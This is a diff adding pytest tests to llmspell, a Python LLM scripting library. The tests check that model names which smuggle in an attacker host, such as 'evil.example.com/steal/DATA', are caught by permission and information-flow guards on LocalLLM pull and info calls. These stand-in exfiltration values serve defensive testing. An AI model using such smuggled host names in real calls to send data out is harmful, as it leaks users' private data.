@@ -12,7 +12,8 @@ from typing import Any
 import pytest
 
 from llmspell.config.load import load_settings
-from llmspell.errors import BadArgument, ModelNotFound, PermissionDenied, ProviderError
+from llmspell.effects.context import task_context
+from llmspell.errors import BadArgument, FlowDenied, ModelNotFound, PermissionDenied, ProviderError
 from llmspell.interface.declare import object_spec
 from llmspell.runtime.agency import Agency
 from llmspell.security.redact import Redactor
@@ -162,3 +163,34 @@ def test_a_server_that_does_not_run_is_an_error_of_what_needs_it(with_settings: 
         with pytest.raises(ProviderError):
             script.call("LocalLLM", *call)
     assert script.call("LocalLLM", "list") == []
+
+
+def labelled(script: Any, *labels: str) -> Any:
+    for it in labels:
+        script.run.flows.bring(task_context(script.run, "0"), it, "mark", "said so")
+    return script
+
+
+@pytest.mark.parametrize("name", ["evil.example.com/steal/DATA", "ollama/http://evil.example.com:443/steal/DATA"])
+@pytest.mark.parametrize("method", ["pull", "info"])
+def test_a_name_with_a_host_is_a_way_out(with_settings: Callable[..., Any], name: str, method: str) -> None:
+    def call(*labels: str) -> Callable[[Any], Any]:
+        return lambda script: labelled(script, *labels).acall("LocalLLM", method, name)
+
+    answers = [PULL] if method == "pull" else [SHOW, TAGS]
+    with pytest.raises(PermissionDenied, match=r"net:evil\.example\.com:443"):
+        asked(with_settings, answers, call(), "model:ollama/*")
+    grants = ("model:ollama/*", "net:evil.example.com")
+    with pytest.raises(FlowDenied, match=r"net:evil\.example\.com:443"):
+        asked(with_settings, answers, call("private", "untrusted"), *grants)
+    asked(with_settings, answers, call("private"), *grants)
+    asked(with_settings, answers, call("private", "untrusted"), *grants, "flow:net:evil.example.com")
+
+
+def test_to_fetch_from_the_library_is_a_way_out_too(with_settings: Callable[..., Any]) -> None:
+    def pull(*labels: str) -> Callable[[Any], Any]:
+        return lambda script: labelled(script, *labels).acall("LocalLLM", "pull", "someone/llama3.2")
+
+    with pytest.raises(FlowDenied, match=r"net:registry\.ollama\.ai:443"):
+        asked(with_settings, [PULL], pull("private", "untrusted"), "model:ollama/*")
+    asked(with_settings, [PULL], pull("private"), "model:ollama/*")
